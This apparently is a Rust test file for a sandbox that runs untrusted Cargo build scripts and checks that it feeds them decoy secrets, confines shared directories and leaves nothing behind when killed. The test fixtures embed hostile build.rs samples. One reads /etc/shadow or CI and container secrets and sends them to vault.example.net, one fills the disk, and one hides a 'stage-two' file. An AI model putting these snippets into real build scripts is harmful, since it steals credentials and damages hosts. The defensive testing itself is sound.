//! What a suspect is shown of the machine: common directories that are its own, nobody's home, no process but its own; and that a trial which is killed leaves
//! neither processes nor files.

use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use cargo_brig::model::sha256;
use nix::sys::signal::Signal;
use nix::unistd::Uid;
use serde_json::Value;

use crate::footing::{Refusals, Step};
use crate::place::{Place, toolchain, visit};
use crate::run::{Aim, Outcome, Run, bare, cargo};
use crate::trying::{findings, nothing_is_touched, says};
use crate::who::Who;

const COMMON: [&str; 3] = ["/tmp", "/var/tmp", "/dev/shm"];

/// A place whose workspace drops `name` where everybody may, and looks for what it must not see.
fn dropper(who: Who) -> (Place, String) {
    let place = Place::new("suspects/common-dropper", who);
    let name = format!("zoo-{}", place.canary.to_lowercase());
    place.write(&place.workspace().join("name.txt"), &name);
    place.write(&place.workspace().join("other.txt"), &std::process::id().to_string());
    place.write(&place.workspace().join("real.txt"), place.path("home/.ssh/id_ed25519").to_str().unwrap());
    (place, name)
}

fn tried<'a>(place: &'a Place, put: impl FnOnce(Run<'a>) -> Run<'a>) -> (Outcome, PathBuf, String) {
    let evidence = place.path("run/evidence");
    let outcome = put(bare(place, &["try", "--evidence", evidence.to_str().unwrap(), "./"])).go();
    let said = fs::read_to_string(evidence.join("said-1-build.txt")).unwrap_or_else(|_| panic!("said nothing\n{outcome}"));
    (outcome, evidence, said)
}

fn report(evidence: &Path) -> Value {
    serde_json::from_slice(&fs::read(evidence.join("report.json")).unwrap()).unwrap()
}

/// What it was told of that is not its own.
fn shared(evidence: &Path) -> Vec<String> {
    let report = report(evidence);
    let all = report["enforcement"]["degraded"].as_array().unwrap().iter().map(|one| one["what"].as_str().unwrap().to_owned());
    all.filter(|what| what.starts_with("the suspect had no ")).collect()
}

#[track_caller]
fn nothing_lies_there(name: &str, outcome: &Outcome) {
    for dir in COMMON {
        assert!(!Path::new(dir).join(name).exists(), "it left something in {dir}\n{outcome}");
    }
}

#[test]
fn what_is_dropped_where_everybody_may_runs_and_is_kept() {
    for who in Who::all() {
        let (place, name) = dropper(who);
        let plain = cargo(&place, &["build", "--offline"]).go();
        for deed in COMMON.iter().chain(&["other process", "real key"]) {
            assert!(plain.stderr_text().contains(&format!("{deed}: done")), "plain cargo: no {deed}\n{plain}");
        }
        let in_toolchain = toolchain().join("share").join(&name);
        assert_eq!(in_toolchain.exists(), who.is_root() || !Uid::effective().is_root(), "plain cargo: the toolchain\n{plain}");
        fs::remove_file(in_toolchain).ok();
        COMMON.iter().for_each(|dir| fs::remove_file(Path::new(dir).join(&name)).unwrap());

        let (place, name) = dropper(who);
        let (outcome, evidence, said) = tried(&place, |run| run);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        nothing_lies_there(&name, &outcome);
        assert_eq!(shared(&evidence), Vec::<String>::new(), "{outcome}");
        // Where the user lives lie decoys, whoever says where that is.
        for deed in COMMON.iter().chain(&["key at home"]) {
            assert!(said.contains(&format!("{deed}: done")), "it did not get to {deed}\n{said}\n{outcome}");
        }
        assert!(!toolchain().join("share").join(&name).exists(), "{outcome}");
        for deed in ["other process", "real key", "toolchain"] {
            assert!(said.contains(&format!("{deed}: not done")), "it sees the {deed}\n{said}\n{outcome}");
        }
        let found = findings(&report(&evidence));
        for rule in ["exec/dropped", "secret/read"] {
            assert!(found.contains(&(rule.to_owned(), "decoy".to_owned())), "{rule}: {found:?}\n{outcome}");
        }
        let letter = fs::read_to_string(evidence.join("letter.md")).unwrap();
        let sums = fs::read_to_string(evidence.join("files/SHA256SUMS")).unwrap();
        let digest = sha256::hex(&fs::read("/bin/true").unwrap());
        for dir in COMMON {
            assert!(letter.contains(&format!("{dir}/{name}")), "the letter does not name what was left in {dir}\n{letter}\n{outcome}");
        }
        let kept: Vec<&str> = sums.lines().filter(|line| line.ends_with(&name)).collect();
        assert_eq!(kept.len(), COMMON.len(), "{sums}\n{outcome}");
        assert!(kept.iter().all(|line| line.starts_with(&digest)), "{digest}\n{sums}\n{outcome}");
    }
}

/// Reads a file of the system's and sends it.
const OF_THE_SYSTEM: &str = "use std::io::Write;\n\nfn main() {
    let read = std::fs::read_to_string(include_str!(\"real.txt\"));
    println!(\"cargo::warning=read: {}\", if read.is_ok() { \"done\" } else { \"not done\" });
    let mut to = std::net::TcpStream::connect(\"vault.example.net:80\").unwrap();
    write!(to, \"POST /x HTTP/1.0\\r\\n\\r\\n{}\", read.unwrap_or_default()).unwrap();
}
";

#[test]
fn secrets_of_the_system_are_decoys_where_it_would_find_some() {
    for who in Who::all() {
        for (ground, path) in
            [("root", "/etc/shadow"), ("container", "/run/secrets/db_password"), ("ci", "/etc/buildkite-agent/buildkite-agent.cfg")]
        {
            let place = Place::new("suspects/quiet", who);
            place.write(&place.workspace().join("real.txt"), path);
            place.write(&place.workspace().join("build.rs"), OF_THE_SYSTEM);
            let evidence = place.path("run/evidence");
            let outcome = bare(&place, &["try", "--as", ground, "--evidence", evidence.to_str().unwrap(), "./"]).go();
            outcome.exits(100);
            nothing_is_touched(&place, &outcome, &evidence);
            assert_eq!(shared(&evidence), Vec::<String>::new(), "{outcome}");
            says(&outcome, &[&format!("with your `{path}`"), "proven by canary; nothing left this machine"]);
            let found = findings(&report(&evidence));
            assert!(found.contains(&("secret/read".to_owned(), "decoy".to_owned())), "{found:?}\n{outcome}");
        }
        // Whoever sits before a screen does not find any there.
        let place = Place::new("suspects/quiet", who);
        place.write(&place.workspace().join("real.txt"), "/etc/shadow");
        place.write(&place.workspace().join("build.rs"), OF_THE_SYSTEM);
        let (outcome, _, said) = tried(&place, |run| run);
        assert!(said.contains("read: not done"), "{said}\n{outcome}");
    }
}

/// A filter around us that lets nobody mount anything.
#[test]
fn without_a_tree_of_its_own_it_is_tried_and_told_so() {
    for who in Who::all() {
        let (place, name) = dropper(who);
        let steps = [Step::Become, Step::Refuse(Refusals::of(&[libc::SYS_mount], libc::EPERM))];
        let (outcome, evidence, said) = tried(&place, |run| run.on(&steps));
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        nothing_lies_there(&name, &outcome);
        for deed in COMMON.iter().chain(&["real key", "key at home", "toolchain"]) {
            assert!(said.contains(&format!("{deed}: not done")), "it got to {deed}\n{said}\n{outcome}");
        }
        // What lies outside is refused as ever, and told.
        let found = findings(&report(&evidence));
        for rule in ["fs/write-outside", "secret/read"] {
            assert!(found.contains(&(rule.to_owned(), "refused".to_owned())), "{rule}: {found:?}\n{outcome}");
        }
        let words = "the suspect had no file tree of its own";
        assert_eq!(shared(&evidence), [words], "{outcome}");
        says(&outcome, &[words]);
        let letter = fs::read_to_string(evidence.join("letter.md")).unwrap();
        assert!(letter.contains(words), "{letter}");
    }
}

/// As in containers, where parts of /proc are covered: a user namespace gets no other one.
#[test]
fn without_a_proc_of_its_own_it_is_tried_and_told_so() {
    for who in Who::all() {
        let (place, name) = dropper(who);
        let cover = Step::Mount { kind: "tmpfs", on: "/proc/tty".into(), flags: libc::MS_RDONLY, data: "" };
        let (outcome, evidence, said) = tried(&place, |run| run.on(&[Step::Mounts, cover, Step::Become]));
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        nothing_lies_there(&name, &outcome);
        assert!(COMMON.iter().all(|deed| said.contains(&format!("{deed}: done"))), "{said}\n{outcome}");
        let words = "the suspect had no process namespace of its own";
        // Root needs no user namespace, and is given one.
        if who.is_root() {
            assert!(shared(&evidence).is_empty() && said.contains("other process: not done"), "{said}\n{outcome}");
        } else {
            assert_eq!(shared(&evidence), [words], "{outcome}");
            says(&outcome, &[words]);
        }
    }
}

/// Files whose sum is more than a trial may fill, though none is large.
const FILLING: &str = "fn main() {
    for number in 0.. {
        if std::fs::write(format!(\"/tmp/fill-{number}\"), vec![1; 1 << 20]).is_err() {
            println!(\"cargo::warning=no room\");
            break;
        }
    }
    std::thread::sleep(std::time::Duration::from_secs(3600));
}
";

#[test]
fn who_fills_the_disk_is_ended_and_told_of() {
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        place.write(&place.workspace().join("build.rs"), FILLING);
        let on = place.path("tmp").to_str().unwrap().to_owned();
        let disk = Step::Mount { kind: "tmpfs", on, flags: libc::MS_NOSUID | libc::MS_NODEV, data: "mode=1777,size=1g" };
        let (outcome, evidence, said) = tried(&place, |run| run.on(&[Step::Mounts, disk, Step::Become]));
        outcome.exits(100);
        says(&outcome, &["filled the disk as far as it may, and was ended", "Unknown what it does in its build"]);
        assert!(!said.contains("no room"), "it filled all of it\n{said}\n{outcome}");
        assert!(fs::read_to_string(evidence.join("letter.md")).unwrap().contains("filled the disk"), "{outcome}");
        // All of it is more than is kept.
        says(&outcome, &["more that it made or changed, of which no copy is kept"]);
    }
}

/// What it hides from whoever looks at what it left.
const HIDING: &str = "use std::os::unix::fs::PermissionsExt;

fn main() {
    std::fs::create_dir_all(\"/tmp/shut\").unwrap();
    std::fs::write(\"/tmp/shut/stage-two\", \"x\").unwrap();
    for path in [\"/tmp/shut/stage-two\", \"/tmp/shut\"] {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0)).unwrap();
    }
}
";

#[test]
fn what_is_shut_away_is_kept_all_the_same() {
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        place.write(&place.workspace().join("build.rs"), HIDING);
        let (outcome, evidence, _) = tried(&place, |run| run);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        let sums = fs::read_to_string(evidence.join("files/SHA256SUMS")).unwrap_or_default();
        assert!(sums.lines().any(|line| line.ends_with("-stage-two") && line.starts_with(&sha256::hex(b"x"))), "{sums}\n{outcome}");
        assert!(!outcome.stdout_text().contains("cannot be read"), "{outcome}");
    }
}

/// A build script that waits, and says that it does in a common directory of its own.
fn waiting(who: Who) -> Place {
    let place = Place::new("suspects/quiet", who);
    let script = "fn main() {\n    std::fs::write(\"/tmp/waits\", \"\").unwrap();\n    std::thread::sleep(std::time::Duration::from_secs(3600));\n}\n";
    place.write(&place.workspace().join("build.rs"), script);
    place
}

fn waits(place: &Place) -> bool {
    let mut found = false;
    visit(&place.path("tmp"), &mut |path| found |= path.file_name().is_some_and(|name| name == "waits"));
    found && !alive(place).is_empty()
}

/// Who lives with variables of this place.
fn alive(place: &Place) -> Vec<String> {
    let here = place.path("home").into_os_string().into_encoded_bytes();
    let tmp = place.path("tmp").into_os_string().into_encoded_bytes();
    let names = |bytes: &[u8], what: &[u8]| bytes.windows(what.len()).any(|window| window == what);
    let pids = fs::read_dir("/proc").unwrap().flatten().map(|entry| entry.path());
    let ours = |pid: &PathBuf| fs::read(pid.join("environ")).is_ok_and(|text| names(&text, &here) || names(&text, &tmp));
    let told = |pid: PathBuf| format!("{}: {}", pid.display(), fs::read_to_string(pid.join("cmdline")).unwrap_or_default());
    pids.filter(ours).map(told).collect()
}

#[track_caller]
fn comes(what: &str, outcome: &Outcome, holds: impl Fn() -> bool) {
    let until = Instant::now() + Duration::from_secs(30);
    while !holds() {
        assert!(Instant::now() < until, "{what}\n{outcome}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn whoever_is_killed_leaves_nothing() {
    for who in Who::all() {
        for aim in [Aim::Process, Aim::Child] {
            let place = waiting(who);
            let evidence = place.path("run/evidence");
            let run = bare(&place, &["try", "--evidence", evidence.to_str().unwrap(), "./"]);
            let outcome = run.signal(Signal::SIGKILL, aim, waits).go();
            outcome.exits(137);
            comes("somebody goes on", &outcome, || alive(&place).is_empty());
            comes("files are left", &outcome, || fs::read_dir(place.path("tmp")).unwrap().count() == 0);
        }
        // All of them at once: then nobody is left who could remove anything, but nobody goes on, and the next one does it.
        let place = waiting(who);
        let outcome = bare(&place, &["try", "./"]).signal(Signal::SIGKILL, Aim::Group, waits).go();
        outcome.exits(137);
        comes("somebody goes on", &outcome, || alive(&place).is_empty());
        assert_eq!(fs::read_dir(place.path("tmp")).unwrap().count(), 1, "{outcome}");
        let next = bare(&place, &["try", "./nowhere/"]).go();
        next.exits(2);
        assert_eq!(fs::read_dir(place.path("tmp")).unwrap().count(), 0, "{next}");
    }
}
